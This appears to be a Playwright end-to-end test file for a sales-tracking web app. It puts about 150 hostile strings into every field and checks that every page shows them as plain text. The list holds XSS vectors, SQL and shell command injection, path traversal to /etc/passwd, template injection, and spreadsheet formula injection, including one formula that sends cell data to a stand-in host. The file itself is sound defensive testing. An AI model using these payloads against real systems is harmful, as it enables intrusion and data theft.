// Names are text everywhere: a hundred and fifty hostile ones in every field, on every page, and nothing comes of them.
import { awake, card, column, expect, open, signIn, test, type House } from './house';
import type { Browser, Page } from '@playwright/test';

const quotes = ['"', "'", '`'];
const longest = (piece: string) => piece.repeat(Math.floor(200 / [...piece].length));

/** Where one says `alert(0)` it says its own number instead, so that a dialog tells which it was. */
const payloads = [
  // Ends of what a page may put around a text.
  '</title><meta http-equiv=refresh content="0;url=http://elsewhere.test/">', '</title><script>alert(0)</script>',
  '</h1></main></body></html><script>alert(0)</script>', '</script><script>alert(0)</script>', '</SCRIPT ><ScRiPt>alert(0)</ScRiPt>',
  '</textarea><script>alert(0)</script>', '</option></select><script>alert(0)</script>',
  '</style><style>@import url(http://elsewhere.test/a.css);</style>', '</table></td><script>alert(0)</script>',
  '</li></ul><svg onload=alert(0)>', '</template><img src=x onerror=alert(0)>', '<!--', '-->', '--!><script>alert(0)</script>',
  '<!--><script>alert(0)</script>-->', '<!-- <script>', '<![CDATA[<script>alert(0)</script>]]>', ']]>', '<!---->',
  '<!DOCTYPE html SYSTEM "http://elsewhere.test/x.dtd">', '<?xml-stylesheet href="http://elsewhere.test/x.xsl"?>',
  // Elements that run, fetch, lead away or deceive.
  '<script>alert(0)</script>', '<script src=http://elsewhere.test/a.js></script>', '<script src=/pkg/x.js></script>',
  '<script type=module>import "http://elsewhere.test/b.js"</script>', '<img src=x onerror=alert(0)>',
  '<img src=http://elsewhere.test/i.png>', '<IMG/SRC=x/ONERROR=alert(0)//', '<img srcset="http://elsewhere.test/s.png 1x">',
  '<svg onload=alert(0)>', '<svg><script>alert(0)</script></svg>', '<svg><animate onbegin=alert(0) attributeName=x dur=1s>',
  '<svg><use href="http://elsewhere.test/u.svg#x"/>', '<svg><a xlink:href="javascript:alert(0)"><text y=9>here</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(0)>', '<iframe srcdoc="<script>alert(0)</script>"></iframe>',
  '<iframe src=http://elsewhere.test/></iframe>', '<iframe src="javascript:alert(0)">', '<object data=http://elsewhere.test/o></object>',
  '<embed src=http://elsewhere.test/e>', '<base href=http://elsewhere.test/>', '<link rel=stylesheet href=http://elsewhere.test/l.css>',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<meta http-equiv=set-cookie content="theme=dark">', '<meta charset=utf-7>+ADw-script+AD4-alert(0)+ADw-/script+AD4-',
  '<style>@import "http://elsewhere.test/c.css";</style>', '<style>*{background:url(http://elsewhere.test/b)}</style>',
  '<p style="background:url(http://elsewhere.test/p)">styled</p>', '<body onload=alert(0)>', '<body background=http://elsewhere.test/bg>',
  '<video poster=http://elsewhere.test/v><source onerror=alert(0)></video>', '<details open ontoggle=alert(0)>',
  '<input autofocus onfocus=alert(0)>', '<form action=http://elsewhere.test/><button>Send</button></form>',
  '</form><form id=f action=http://elsewhere.test/><input name=q>', '<button formaction="javascript:alert(0)">Press</button>',
  '<dialog open><h1>Sign in again</h1></dialog>', '<template shadowrootmode=open><script>alert(0)</script></template>',
  '<a href="javascript:alert(0)">here</a>', '<a href=//elsewhere.test ping=http://elsewhere.test/ping>there</a>',
  '<a id=wasm_bindgen><a id=wasm_bindgen name=default>', '<img name=getElementById>', '<<script>alert(0)//<</script>',
  '<scr<script>ipt>alert(0)</scr</script>ipt>', '<x onclick=alert(0) style=position:fixed;inset:0>', '<plaintext>',
  // Ways out of an attribute.
  ...quotes.flatMap((quote, n) => [
    `${quote}><script>alert(0)</script>`, `${quote} onfocus=alert(0) autofocus x=${quote}`, `x${quote} onmouseover=${quote}alert(0)`,
    `${quote} style=${quote}background:url(http://elsewhere.test/${n})`,
  ]),
  // Addresses, and what becomes of them where somebody decodes twice.
  'javascript:alert(0)', 'JaVaScRiPt://x/%0aalert(0)', 'data:text/html,<script>alert(0)</script>', '//elsewhere.test/',
  '\\\\elsewhere.test\\share', 'http://elsewhere.test/?a=1&b=2#c', '%3Cscript%3Ealert(0)%3C/script%3E', '%253Cimg%2520src=x%253E',
  '%00%0d%0aSet-Cookie: a=b', '100 % + 5 &amp= 1', 'a&q=b&owner=1#c?d', '../../../../etc/passwd', '..\\..\\windows\\win.ini',
  '&lt;script&gt;alert(0)&lt;/script&gt;', '&#60;img src=x onerror=alert(0)&#62;', '&amp;lt;b&amp;gt;', '&quot;&apos;&#x27;&NewLine;',
  '&lt', '&', '<', '>"',
  // What templates, formats, shells, databases and readers of JSON take for their own.
  '{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{% debug %}', '{0} {name} {}', '%s %n %x %d', '$(touch /tmp/x)', '`id`;|&& ls',
  "'; DROP TABLE deal; --", "' OR '1'='1", '%_%', '\\', '\\u003cscript\\u003ealert(0)\\u003c/script\\u003e', '\\ud800', '\\0\\n\\r\\x1b[31m',
  '__proto__', 'null', 'undefined', 'NaN', '1e309', '{"kind":"not_found"}', '["<script>"]',
  // Formulas.
  '=HYPERLINK("http://elsewhere.test/?"&A1,"Open")', '=1+1', '+48 22 100 20 30', '-2+3', '@SUM(A1:A9)', "=cmd|'/C calc'!A0", 'a;=1+2', 'b,=1+3',
  "'=1+4", '"=1+5"',
  // Letters that turn, hide, join, break the line, look like others, or go on and on.
  'safe\u202egnp.exe', '\u2066left\u2069 \u2067right\u2069', 'zero\u200bwidth\u2060joined', '\ufeffmarked', 'line\u2028separated\u2029twice',
  '<script>\u2028alert(0)\u2029</script>', 'Z\u0351\u036b\u0343a\u0306\u0309\u0349l\u033eg\u0320o\u0489',
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467} family', '＜script＞alert(0)＜/script＞', 'İIıi ẞß ﬁ ǅ', 'not a character \ufffe\u{10ffff}',
  'مرحبا <b>بالعالم</b>', '𝕏'.repeat(200), longest('<b>'), longest('"><i>'), longest('\'"`<>&'), longest('W'), longest('ﷺ'),
].map((payload, n) => payload.replaceAll('alert(0)', `alert(${n})`));

const p = (n: number) => payloads[n % payloads.length];
/** The payload at `n` and those after it. */
const few = (n: number, count: number) => Array.from({ length: count }, (_, index) => p(n + index));
const op = () => crypto.randomUUID();
/** A file keeps its name but for what would part a path. */
const filed = (name: string) => name.replace(/[/\\]/g, '_');

const EVE = { name: '<img src=x onerror=alert("Eve")> "Eve\'`', email: '"><img/src=x/onerror=alert(1)>@demo.test' };

type Call = [name: string, body: unknown];
type Stage = { id: number; actions: { id: number }[] };
type Named = { id: number; name: string; active: boolean };

/** Calls server functions one after another, as a page of the program would. */
function ask<T>(page: Page, calls: Call[]): Promise<T[]> {
  return page.evaluate(async (calls) => {
    const answers = [];
    for (const [name, body] of calls) {
      const headers = { 'content-type': 'application/json' };
      const answer = await fetch(`/api/${name}`, { method: 'POST', headers, body: JSON.stringify(body) });
      if (!answer.ok) throw new Error(`${name} ${JSON.stringify(body)}: ${await answer.text()}`);
      answers.push(await answer.json());
    }
    return answers;
  }, calls);
}

const tell = async <T>(page: Page, name: string, body: unknown = {}) => (await ask<T>(page, [[name, body]]))[0];

/** Sends files for notes; each says in HTML how it is called. */
function send(page: Page, files: { deal: number; name: string }[]): Promise<number[]> {
  return page.evaluate(async (files) => {
    const ids = [];
    for (const { deal, name } of files) {
      const body = `<!DOCTYPE html><html><body>${name}</body></html>`;
      const answer = await fetch(`/files/${deal}?name=${encodeURIComponent(name)}`, { method: 'POST', body });
      if (!answer.ok) throw new Error(`${name}: ${await answer.text()}`);
      ids.push(await answer.json());
    }
    return ids;
  }, files);
}

/** The form of a process. Of the actions of each stage the first adds a task, the second wants a note. */
function plan(name: string, from: number, stages: number, actions: number) {
  const action = (n: number, at: number) => ({
    id: null, name: p(n), hint: p(n + 75), weight: '1',
    rules: {
      mandatory: n % 40 === 0, note: at === 1 ? 'note' : 'no',
      trigger: at === 0 ? { title: p(n + 1), kind: 'call', days: 3, assignee: 'owner' } : null,
    },
  });
  const stage = (n: number) => ({
    id: null, name: p(n), hint: p(n + 1), actions: Array.from({ length: actions }, (_, at) => action(3 * n + at, at)),
  });
  const all = Array.from({ length: stages }, (_, index) => stage(from + index));
  return { name, active: true, default: false, guarded: false, relocations: [], stages: all };
}

type Filled = Awaited<ReturnType<typeof fill>>;

/** Puts the payloads into every field: deal `n` is called by payload `n`, its other fields by those further on. */
async function fill(page: Page) {
  const [process] = await ask<number>(page, Array.from({ length: 26 }, (_, n): Call =>
    ['add_process', { form: n === 0 ? plan(p(0), 0, 50, 3) : plan(p(n), 46 + 4 * n, 4, 0) }]));
  const stagesOf = async (process: number) =>
    (await tell<{ process: { stages: Stage[] } }>(page, 'process', { process })).process.stages;
  const [usual, stages] = [await stagesOf(1), await stagesOf(process)];

  const before = (await tell<{ list: Named[] }>(page, 'reasons')).list;
  const more = payloads.map((name) => ({ id: null, name, active: true }));
  await tell(page, 'save_reasons', { reasons: [...before, ...more], required: false });
  const reasons = (await tell<{ list: Named[] }>(page, 'reasons')).list.slice(before.length);
  const known = (await tell<{ categories: Named[] }>(page, 'cost_settings')).categories;
  const added = payloads.map((name) => ({ id: null, name }));
  await tell(page, 'save_cost_settings', { categories: [...known, ...added], deleted: [], costs: true });
  const categories = (await tell<{ categories: Named[] }>(page, 'cost_settings')).categories.slice(known.length);
  const products = await ask<number>(page, payloads.map((name, n): Call =>
    ['save_product', { product: { id: null, name, code: p(n + 1), price: '5', currency: 'PLN', active: true } }]));

  const { people } = await tell<{ people: Named[] }>(page, 'offer');
  const eve = people.find((person) => person.name === EVE.name)!.id;
  const form = (n: number, name: string, company: string) => ({
    company, person: p(n + 20), name, source: null, expected_close: '', value: '', currency: 'PLN', owner: n % 4 ? 1 : eve, description: p(n + 30),
  });
  const line = (name: string, product: number | null) => ({ id: null, product, name, quantity: '1', price: '10', discount: '', date: '' });
  const deals = await ask<number>(page, payloads.map((name, n): Call => ['add_deal', { addition: {
    // The first ones get their names later, which their histories tell.
    form: n < 12 ? form(n, p(n + 60), p(n + 70)) : form(n, name, p(n + 10)),
    process: n % 6 === 5 ? 1 : process, stage: n % 6 === 5 ? usual[n % 5].id : stages[n % 50].id, participants: [],
    lines: [line(p(n + 40), null), line(p(n + 50), products[n])], op: op(),
  } }]));

  const rich = deals.slice(0, 12);
  await ask(page, rich.flatMap((deal, n): Call[] => [
    ['save_deal', { deal, version: 1, form: { ...form(n, p(n), p(n + 10)), value: '20' } }],
    ['save_costs', { deal, version: 2, kind: 'forecast', costs: few(13 * n, 13).map((note, at) =>
      ({ id: null, category: categories[(13 * n + at + 1) % 150].id, amount: '1', date: '', note })) }],
    ...few(13 * n, 13).map((title): Call => ['add_task', { deal, form: { title }, op: op() }]),
    ...(n % 6 === 5 ? [] : stages[n].actions.slice(0, 2)).map((action): Call =>
      ['complete_action', { completion: { deal, action: action.id, note: p(n + 80), files: [], op: op() } }]),
  ]));
  const files = await send(page, rich.flatMap((deal, n) => few(13 * n, 13).map((name) => ({ deal, name }))));
  await ask(page, files.map((file, n): Call =>
    ['add_note', { note: { deal: rich[Math.floor(n / 13)], text: p(n + 1), files: [file], op: op() } }]));
  const closed = deals.slice(30, 60);
  await ask(page, closed.map((deal, n): Call =>
    ['give_up_deal', { deal, outcome: n % 2 ? 'lost' : 'stale', reason: reasons[5 * n].id, note: p(5 * n + 2) }]));
  const open = deals.map((deal, n) => ({ deal, n, process: n % 6 === 5 ? 1 : process })).filter(({ deal }) => !closed.includes(deal));
  return { process, deals, rich, files, closed, open };
}

/** Somebody who walks from page to page, and everything that should not have happened on the way. */
class Walker {
  readonly troubles: string[] = [];
  private readonly gone: string[] = [];
  private readonly went: string[] = [];

  constructor(readonly page: Page, readonly house: House) {}

  /** Listens from now on. */
  async listen() {
    const { page } = this;
    const trouble = (what: string) => this.troubles.push(`${what}, on ${page.url()}`);
    await page.addInitScript(() => addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) =>
      console.error(`policy violated: ${violatedDirective} ${blockedURI} ${sample}`)));
    page.on('dialog', (dialog) => { trouble(`a dialog says ${dialog.message()}`); void dialog.dismiss(); });
    page.on('pageerror', (error) => trouble(String(error)));
    page.on('console', (message) => {
      const text = message.text();
      const expected = /the server responded with a status of/.test(text);
      if ((message.type() === 'error' && !expected) || /panicked|policy|refused to|hydrat/i.test(text)) trouble(text);
    });
    page.on('frameattached', (frame) => trouble(`a frame ${frame.url()}`));
    page.context().on('page', (other) => trouble(`another window ${other.url()}`));
    page.context().on('request', (request) => {
      if (new URL(request.url()).origin !== this.house.url) trouble(`a request to ${request.url()}`);
      if (request.isNavigationRequest()) this.gone.push(whereTo(request.url()));
    });
  }

  /** Loads a page, and looks whether it is that page and nothing of a payload became an element or an attribute. */
  async visit(path: string, status = 200) {
    this.went.push(whereTo(this.house.url + path));
    const answer = await this.page.goto(this.house.url + path);
    expect(answer!.status(), path).toBe(status);
    await awake(this.page);
    await this.isPlain();
  }

  async isPlain() {
    expect(whereTo(this.page.url())).not.toContain('elsewhere');
    expect(await this.page.evaluate(strange), this.page.url()).toEqual([]);
    expect(this.troubles).toEqual([]);
  }

  /** Nothing happened that should not, and no page led to another by itself. */
  isUnharmed() {
    expect(this.troubles).toEqual([]);
    expect(this.gone).toEqual(this.went);
  }

  /** Each of these stands on the page, letter by letter: as a text, in a field, or in an attribute that is read out. */
  async shows(wanted: string[]) {
    const shown = await this.page.evaluate(texts);
    expect(wanted.filter((text) => !shown.includes(text)), this.page.url()).toEqual([]);
  }

  async showsWithin(wanted: string[]) {
    const shown = await this.page.evaluate(texts);
    expect(wanted.filter((text) => !shown.some((line) => line.includes(text))), this.page.url()).toEqual([]);
  }

  /** The title, as the window has it. */
  async isTitled(text: string) {
    // Titles lose spaces at their ends.
    await expect.poll(() => this.page.evaluate(() => document.title)).toBe(`${text} · Tablica`);
  }
}

const whereTo = (address: string) => { const { pathname, search } = new URL(address); return pathname + search; };
